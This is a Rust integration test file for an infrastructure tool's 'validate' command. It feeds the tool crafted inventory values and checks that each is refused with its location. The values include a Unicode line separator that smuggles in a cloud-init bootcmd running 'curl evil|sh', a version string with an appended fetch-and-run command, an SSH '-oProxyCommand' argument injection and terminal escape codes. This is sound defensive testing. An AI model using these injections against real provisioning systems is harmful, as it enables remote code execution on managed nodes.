//! `kiwi-infra validate` on inventories written by an attacker or a careless
//! colleague, through the real binary: each value that would change a
//! document it is rendered into, or fail half-way through `apply`, is
//! refused with `FILE:LINE:COL`, and a file that is not one (a FIFO, a
//! device) ends `validate` at once with exit 1. Each test is named after
//! what broke.

#![allow(clippy::unwrap_used)]

use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

/// No validate may take longer: reading a FIFO used to wait forever.
const DEADLINE: Duration = Duration::from_secs(30);

fn example_inventory() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("inventory")
}

fn copy_dir(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for entry in std::fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        let target = to.join(entry.file_name());
        if entry.file_type().unwrap().is_dir() {
            copy_dir(&entry.path(), &target);
        } else {
            std::fs::copy(entry.path(), target).unwrap();
        }
    }
}

/// A copy of the example inventory.
fn inventory() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    copy_dir(&example_inventory(), dir.path());
    dir
}

/// Replaces `from` by `to` in `file` of the inventory (once, and it must
/// be there).
fn edit(dir: &Path, file: &str, from: &str, to: &str) {
    let path = dir.join(file);
    let text = std::fs::read_to_string(&path).unwrap();
    assert!(text.contains(from), "{from:?} is not in {file}");
    std::fs::write(&path, text.replacen(from, to, 1)).unwrap();
}

/// `kiwi-infra validate`, killed and failed if it outlives [`DEADLINE`].
fn validate(dir: &Path) -> Output {
    let mut child = Command::new(env!("CARGO_BIN_EXE_kiwi-infra"))
        .args(["validate", "--inventory"])
        .arg(dir)
        .env_remove("KIWI_INVENTORY")
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let started = Instant::now();
    while child.try_wait().unwrap().is_none() {
        if started.elapsed() > DEADLINE {
            let _ = child.kill();
            let _ = child.wait();
            panic!("validate did not end within {DEADLINE:?}");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    child.wait_with_output().unwrap()
}

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

/// The 1-based line of `file` holding `needle` (comments aside).
fn line_of(dir: &Path, file: &str, needle: &str) -> usize {
    std::fs::read_to_string(dir.join(file))
        .unwrap()
        .split('\n')
        .position(|l| l.contains(needle) && !l.trim_start().starts_with('#'))
        .unwrap_or_else(|| panic!("{needle:?} not in {file}"))
        + 1
}

/// Asserts exit 1 and an error at `file:line:` that mentions `words`, and
/// that nothing raw from the value reached the terminal.
fn assert_refused_at(out: &Output, file: &str, line: usize, words: &[&str]) {
    let err = stderr(out);
    assert_eq!(out.status.code(), Some(1), "{err}");
    let at = format!("{file}:{line}:");
    assert!(
        err.lines().any(|l| l.contains(&at)
            && l.contains(": error: ")
            && words.iter().all(|w| l.contains(w))),
        "no error at {at} that says {words:?}:\n{err}"
    );
    assert!(
        kiwi_infra::inventory::text::first_forbidden(&err.replace('\n', "")).is_none(),
        "a control character reached the terminal: {err:?}"
    );
    assert!(!err.contains("panicked"), "{err}");
}

#[test]
fn an_invisible_line_separator_in_the_key_comment_is_refused_with_its_location() {
    // Once, a U+2028 in the comment passed validate and added a bootcmd to
    // every node's user data: YAML reads it as a line break. U+0085 and
    // U+2029 do the same; each may be written as is or as a TOML escape.
    for (written, shown) in [
        ("\u{2028}", "U+2028"),
        ("\\u2028", "U+2028"),
        ("\u{2029}", "U+2029"),
        ("\u{85}", "U+0085"),
        ("\\u0085", "U+0085"),
        ("\\n", "U+000A"),
        ("\u{202e}", "U+202E"),
    ] {
        let dir = inventory();
        edit(
            dir.path(),
            "kiwi.toml",
            "ops@kiwistack.io\"",
            &format!("ops@kiwistack.io{written}bootcmd: [[sh, -c, 'curl evil|sh']]\""),
        );
        let out = validate(dir.path());
        let line = line_of(dir.path(), "kiwi.toml", "ssh_public_key =");
        assert_refused_at(&out, "kiwi.toml", line, &[shown, "expected"]);
    }
}

#[test]
fn a_control_character_in_any_key_or_value_is_refused_with_its_location() {
    // Keys too: a pool name and a label key are TOML keys.
    let cases: &[(&str, &str, &str, &str)] = &[
        (
            "customers/stadtwerke-nord.toml",
            "[pools.",
            "[pools.\"rt\u{2028}x\"]\n[pools.",
            "U+2028",
        ),
        (
            "kiwi.toml",
            "image = \"ubuntu-24.04\"",
            "image = \"ubuntu-24.04\\u001b[2J\"",
            "U+001B",
        ),
        (
            "kiwi.toml",
            "region = \"EU\"",
            "region = \"EU\u{200b}\"",
            "U+200B",
        ),
    ];
    for (file, from, to, shown) in cases {
        let dir = inventory();
        let needle = to.split('\n').next().unwrap();
        edit(dir.path(), file, from, to);
        let out = validate(dir.path());
        let line = line_of(dir.path(), file, needle);
        assert_refused_at(&out, file, line, &[shown]);
    }
}

#[test]
fn a_label_key_with_a_line_separator_is_refused_with_its_location() {
    let dir = inventory();
    let file = "customers/stadtwerke-nord.toml";
    let text = std::fs::read_to_string(dir.path().join(file)).unwrap();
    let text = format!("{text}\n[pools.extra]\nclass = \"vps\"\nproduct = \"V94\"\ncount = 0\nlabels = {{ \"team\u{2029}x\" = \"a\" }}\n");
    std::fs::write(dir.path().join(file), text).unwrap();
    let out = validate(dir.path());
    let line = line_of(dir.path(), file, "labels = { \"team");
    assert_refused_at(&out, file, line, &["U+2029"]);
}

#[test]
fn a_version_that_is_a_command_or_incomplete_is_refused_with_its_location() {
    for (from, to) in [
        (
            "kubernetes_version = \"v1.31.4\"",
            "kubernetes_version = \"v1.31.4; curl evil|sh\"",
        ),
        (
            "kubernetes_version = \"v1.31.4\"",
            "kubernetes_version = \"v1.31\"",
        ),
        (
            "kubernetes_version = \"v1.31.4\"",
            "kubernetes_version = \"1.31.4\"",
        ),
        (
            "kubernetes_version = \"v1.31.4\"",
            "kubernetes_version = \"v1.31.4/../../x\"",
        ),
        (
            "version = \"v1.31.4+k3s1\"",
            "version = \"v1.31.4+k3s1; curl evil|sh\"",
        ),
        ("version = \"v1.31.4+k3s1\"", "version = \"v1.31\""),
        ("version = \"v1.31.4+k3s1\"", "version = \"v1.31.4\""),
    ] {
        let dir = inventory();
        edit(dir.path(), "kiwi.toml", from, to);
        let out = validate(dir.path());
        let line = line_of(dir.path(), "kiwi.toml", to);
        assert_refused_at(&out, "kiwi.toml", line, &["version", "expected"]);
    }
}

#[test]
fn an_address_or_endpoint_that_is_not_a_host_is_refused_with_its_location() {
    for (from, to) in [
        (
            "address = \"203.0.113.11\"",
            "address = \"-oProxyCommand=sh -c id\"",
        ),
        ("address = \"203.0.113.11\"", "address = \"\""),
        ("address = \"203.0.113.11\"", "address = \"203.0.113.300\""),
        ("address = \"203.0.113.11\"", "address = \"cp 1\""),
        (
            "api_endpoint = \"api.core.kiwistack.io:6443\"",
            "api_endpoint = \"api.core.kiwistack.io:+6443\"",
        ),
        (
            "api_endpoint = \"api.core.kiwistack.io:6443\"",
            "api_endpoint = \"https://api.core.kiwistack.io:6443\"",
        ),
        (
            "api_endpoint = \"api.core.kiwistack.io:6443\"",
            "api_endpoint = \"api.core.kiwistack.io:6443/x\"",
        ),
        ("image = \"ubuntu-24.04\"", "image = \"ubuntu-24.04 --x\""),
    ] {
        let dir = inventory();
        edit(dir.path(), "kiwi.toml", from, to);
        let out = validate(dir.path());
        let line = line_of(dir.path(), "kiwi.toml", to);
        assert_refused_at(&out, "kiwi.toml", line, &["expected"]);
    }
}

#[test]
fn an_ssh_key_whose_data_is_not_a_key_is_refused_with_its_location() {
    // It used to be enough to start with a known type and a base64 word.
    for to in [
        "ssh_public_key = \"ssh-ed25519 AAAA ops\"",
        "ssh_public_key = \"ssh-rsa AAAAC3NzaC1lZDI1NTE5AAAAIGFZqtyOeLGjPjiuhoCmVODskzMSRJGYucm9572VSt8G ops\"",
    ] {
        let dir = inventory();
        let text = std::fs::read_to_string(dir.path().join("kiwi.toml")).unwrap();
        let old = text
            .lines()
            .find(|l| l.starts_with("ssh_public_key ="))
            .unwrap()
            .to_string();
        edit(dir.path(), "kiwi.toml", &old, to);
        let out = validate(dir.path());
        let line = line_of(dir.path(), "kiwi.toml", to);
        assert_refused_at(&out, "kiwi.toml", line, &["not an OpenSSH public key"]);
    }
}

#[test]
fn a_fifo_in_customers_makes_validate_end_at_once_with_exit_1() {
    // validate used to wait for a writer forever.
    let dir = inventory();
    let fifo = dir.path().join("customers/evil.toml");
    let made = Command::new("mkfifo").arg(&fifo).status().unwrap();
    assert!(made.success());
    let out = validate(dir.path());
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(
        err.contains("evil.toml") && err.contains("FIFO") && err.contains("expected"),
        "{err}"
    );
}

#[test]
fn a_symlink_to_dev_zero_in_customers_makes_validate_end_at_once_with_exit_1() {
    // validate used to read it until memory ran out.
    let dir = inventory();
    std::os::unix::fs::symlink("/dev/zero", dir.path().join("customers/zero.toml")).unwrap();
    let out = validate(dir.path());
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(
        err.contains("zero.toml") && err.contains("character device"),
        "{err}"
    );
}

#[test]
fn a_huge_inventory_file_is_refused_without_being_read_whole() {
    let dir = inventory();
    let big = dir.path().join("customers/big.toml");
    let file = std::fs::File::create(&big).unwrap();
    file.set_len(64 * 1024 * 1024 * 1024).unwrap(); // sparse: no disk used
    let out = validate(dir.path());
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(
        err.contains("big.toml") && err.contains("larger than"),
        "{err}"
    );
}

#[test]
fn an_operator_key_file_that_is_a_fifo_is_refused_at_once() {
    let dir = inventory();
    let text = std::fs::read_to_string(dir.path().join("kiwi.toml")).unwrap();
    let old = text
        .lines()
        .find(|l| l.starts_with("ssh_public_key ="))
        .unwrap()
        .to_string();
    edit(
        dir.path(),
        "kiwi.toml",
        &old,
        "ssh_public_key_file = \"operator.pub\"",
    );
    let made = Command::new("mkfifo")
        .arg(dir.path().join("operator.pub"))
        .status()
        .unwrap();
    assert!(made.success());
    let out = validate(dir.path());
    let line = line_of(dir.path(), "kiwi.toml", "ssh_public_key_file");
    assert_refused_at(&out, "kiwi.toml", line, &["FIFO"]);
}
